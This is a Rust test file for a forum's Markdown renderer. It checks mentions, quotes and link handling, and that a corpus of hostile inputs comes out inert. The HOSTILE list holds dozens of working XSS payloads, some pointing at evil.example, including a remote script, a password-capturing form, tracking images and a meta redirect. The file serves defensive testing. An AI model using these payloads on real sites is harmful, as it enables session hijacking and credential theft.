//! What the renderer keeps, and a corpus of hostile inputs that must all
//! come out inert.

use super::*;

/// Why a rendered fragment is not inert, if it is not: an active tag, an
/// event handler or style, or a URL other than http(s), mailto, this
/// server's paths and, for images, its uploads.
fn is_inert(html: &str) -> Result<(), String> {
    // Text never holds a raw `<` (it is escaped), so each one opens a tag.
    for tag in html.split('<').skip(1) {
        let tag = tag
            .split('>')
            .next()
            .unwrap_or_default()
            .to_ascii_lowercase();
        let name: String = tag
            .trim_start_matches('/')
            .chars()
            .take_while(char::is_ascii_alphanumeric)
            .collect();
        if [
            "script", "style", "svg", "math", "iframe", "object", "embed", "form", "link", "meta",
            "base", "frame", "frameset", "textarea", "button", "select", "template", "video",
            "audio", "source",
        ]
        .contains(&name.as_str())
        {
            return Err(format!("a <{name}> tag"));
        }
        for (attribute, value) in attributes(&tag[tag.find(&name).unwrap_or(0) + name.len()..]) {
            if attribute.starts_with("on")
                || ["style", "srcdoc", "formaction", "xlink:href", "srcset"]
                    .contains(&attribute.as_str())
            {
                return Err(format!("an `{attribute}` attribute"));
            }
            let value = value.replace("&amp;", "&");
            if attribute == "href" && !href_is_safe(&value) {
                return Err(format!("href={value:?}"));
            }
            if attribute == "src" && !is_upload(&value) {
                return Err(format!("src={value:?}"));
            }
        }
    }
    Ok(())
}

/// A tag's attributes, as the serialiser writes them: `name` or
/// `name="value"` (a `"` in a value is written `&quot;`).
fn attributes(mut rest: &str) -> Vec<(String, String)> {
    let mut found = Vec::new();
    loop {
        rest = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '/');
        if rest.is_empty() {
            return found;
        }
        let name_end = rest
            .find(|c: char| c == '=' || c.is_whitespace() || c == '/')
            .unwrap_or(rest.len());
        let name = rest[..name_end].to_owned();
        rest = &rest[name_end..];
        let mut value = String::new();
        if let Some(after) = rest.strip_prefix("=\"") {
            let end = after.find('"').unwrap_or(after.len());
            value = after[..end].to_owned();
            rest = after.get(end + 1..).unwrap_or_default();
        }
        found.push((name, value));
    }
}

/// Resolved as a browser would: an http(s) or mailto URL, or one that
/// stays on this server.
fn href_is_safe(url: &str) -> bool {
    let base = url::Url::parse("https://here.invalid/a/b").unwrap();
    match base.join(url) {
        Ok(resolved) => match resolved.scheme() {
            "mailto" => true,
            "http" | "https" => {
                url::Url::parse(url).is_ok() || resolved.host_str() == Some("here.invalid")
            }
            _ => false,
        },
        Err(_) => false,
    }
}

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<style>body{display:none}</style>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/phish)",
    "[x](\\\\evil.example\\share)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](https://evil.example/track.png)",
    "![x](//evil.example/track.png)",
    "![x](/media/uploads/../avatars/x.png)",
    "![x](/media/uploads/a.png\" onerror=\"alert(1))",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "![x][ref]\n\n[ref]: https://evil.example/a.png",
    "[x][ref]\n\n[ref]: data:text/html,<script>alert(1)</script> \"title\"",
    "<javascript:alert(1)>",
    "<https://example.org/\" onmouseover=\"alert(1)>",
    "[x](https://example.org \"\\\" onmouseover=\\\"alert(1)\")",
    "<a href=\"https://example.org\" onclick=\"alert(1)\">x</a>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<div style=\"position:fixed;inset:0\">overlay</div>",
    "<form action=\"https://evil.example\"><input type=password></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><script>alert(1)</script></textarea>",
    "```\n</code><script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- [ ] <script>alert(1)</script>",
    "**<img src=x onerror=alert(1)>**",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "<a href=\"https://example.org\" target=\"_self\">x</a>",
    "<img srcset=\"x 1x\" src=\"/media/uploads/a.png\">",
    "![![a](/media/uploads/a.png)](https://evil.example)\n\nlater paragraph",
    "[x](/\\evil.example)",
    "[x](\\/evil.example)",
    "[x](&#x2F;&#x2F;evil.example)",
    "[x](</\t/evil.example>)",
    "[x](< //evil.example>)",
    // Quotes and mentions: what their rewriting writes must stay inert too.
    "[quote=\"anna, post:1\"]\n<script>alert(1)</script>\n[/quote]",
    "[quote=\"anna\" onclick=\"x, post:1\"]\nx\n[/quote]",
    "[quote=\"anna, post:1\"]\n[x](javascript:alert(1))\n[/quote]",
    "[quote=\"anna, post:1, topic:javascript:alert(1)\"]\nx\n[/quote]",
    "@anna<img src=x onerror=alert(1)>",
    "[@anna](javascript:alert(1))",
    "`@anna` <a href=\"javascript:x\">@anna</a>",
];

#[test]
fn every_hostile_input_comes_out_inert() {
    assert!(HOSTILE.len() >= 50);
    let known = HashSet::from(["anna".to_owned()]);
    for input in HOSTILE {
        let plain = render(input);
        let post = render_post(input, Some(Uuid::nil()), &known, &HashMap::new()).html;
        for html in [plain, post] {
            if let Err(why) = is_inert(&html) {
                panic!("{input:?} rendered {html:?}: {why}");
            }
        }
    }
}

#[test]
fn mentions_of_known_people_link_outside_code_and_links_and_count_outside_quotes() {
    let known = HashSet::from(["anna".to_owned(), "bob_k".to_owned()]);
    let rendered = render_post(
        "Hi @Anna and @bob_k and @carl! `@anna` [@bob_k](https://x.org/)\n\n```\n@anna\n```",
        None,
        &known,
        &HashMap::new(),
    );
    assert!(
        rendered
            .html
            .contains(r#"<a href="/users/anna" rel="nofollow ugc noopener">@Anna</a>"#),
        "{}",
        rendered.html
    );
    assert!(rendered.html.contains(r#"href="/users/bob_k""#));
    assert!(!rendered.html.contains("/users/carl"), "unknown stays text");
    assert_eq!(
        rendered.html.matches("/users/anna").count(),
        1,
        "not in code"
    );
    assert_eq!(rendered.mentions, ["anna", "bob_k"]);

    let quoted = render_post(
        "[quote=\"bob_k, post:2\"]\nask @anna\n[/quote]\nthanks",
        Some(Uuid::nil()),
        &known,
        &HashMap::new(),
    );
    assert!(quoted.html.contains("/users/anna"), "{}", quoted.html);
    assert_eq!(
        quoted.mentions,
        Vec::<String>::new(),
        "who a quote mentions, the quoted author did"
    );
}

#[test]
fn quotes_render_as_blockquotes_linking_to_the_quoted_post() {
    let topic = Uuid::from_u128(42);
    let rendered = render_post(
        "[quote=\"anna, post:3\"]\nYes.\n[/quote]\nNo.",
        Some(topic),
        &HashSet::new(),
        &HashMap::from([(
            QuoteRef {
                topic: None,
                number: 3,
            },
            "anna".to_owned(),
        )]),
    );
    assert!(
        rendered.html.starts_with("<blockquote>"),
        "{}",
        rendered.html
    );
    assert!(
        rendered
            .html
            .contains(&format!("href=\"/topics/{topic}/3\""))
    );
    assert!(
        rendered.html.ends_with("</blockquote>\n<p>No.</p>\n"),
        "{}",
        rendered.html
    );
    assert_eq!(
        rendered.quotes,
        [QuoteRef {
            topic: None,
            number: 3
        }]
    );
}

#[test]
fn the_checker_itself_catches_what_it_looks_for() {
    for active in [
        "<script>x</script>",
        "<a href=\"javascript:x\">x</a>",
        "<img src=\"https://evil.example/a.png\">",
        "<p onclick=\"x\">x</p>",
        "<a href=\"//evil.example\">x</a>",
        "<a href=\" //evil.example\">x</a>",
        "<a href=\"/\\evil.example\">x</a>",
    ] {
        assert!(is_inert(active).is_err(), "{active}");
    }
}

#[test]
fn ordinary_markdown_survives() {
    let html = render(
        "# Заголовок\n\n**Жирный** и _курсив_, `код`, ~~зачёркнуто~~.\n\n- один\n- два\n\n> цитата",
    );
    for part in [
        "<h1>Заголовок</h1>",
        "<strong>Жирный</strong>",
        "<em>курсив</em>",
        "<code>код</code>",
        "<del>зачёркнуто</del>",
        "<li>один</li>",
        "<blockquote>",
    ] {
        assert!(html.contains(part), "{part} in {html}");
    }
}

#[test]
fn links_are_kept_with_rel_nofollow() {
    let html = render("[NoxChat](https://example.org/a?b=1&c=2) and <mailto:anna@example.org>");
    assert!(
        html.contains("<a href=\"https://example.org/a?b=1&amp;c=2\" rel=\"nofollow ugc noopener\">NoxChat</a>"),
        "{html}"
    );
    assert!(html.contains("href=\"mailto:anna@example.org\""), "{html}");
}

#[test]
fn uploaded_images_show_and_others_become_links() {
    let own = render("![кот](/media/uploads/0193f4d2-1600.jpg)");
    assert!(
        own.contains("<img src=\"/media/uploads/0193f4d2-1600.jpg\" alt=\"кот\">"),
        "{own}"
    );
    let outside = render("![кот](https://example.org/cat.jpg)");
    assert!(!outside.contains("<img"), "{outside}");
    assert!(
        outside.contains(
            "<a href=\"https://example.org/cat.jpg\" rel=\"nofollow ugc noopener\">кот</a>"
        ),
        "{outside}"
    );
}

#[test]
fn an_image_inside_an_outside_image_closes_its_own_link() {
    let html = render("![![a](/media/uploads/a.png)](https://evil.example)\n\nlater paragraph");
    assert!(
        html.contains("<p>later paragraph</p>"),
        "no link left open: {html}"
    );
    assert_eq!(
        html.matches("<a ").count(),
        html.matches("</a>").count(),
        "{html}"
    );
}

#[test]
fn links_to_this_server_are_kept() {
    for (input, href) in [
        ("[x](/users/anna)", "href=\"/users/anna\""),
        ("[x](#post-4)", "href=\"#post-4\""),
        ("[x](../topics/7)", "href=\"../topics/7\""),
    ] {
        let html = render(input);
        assert!(html.contains(href), "{input:?} gave {html}");
    }
}

#[test]
fn raw_html_is_shown_as_text() {
    let html = render("a <b>bold</b> claim");
    assert!(html.contains("a &lt;b&gt;bold&lt;/b&gt; claim"), "{html}");
}
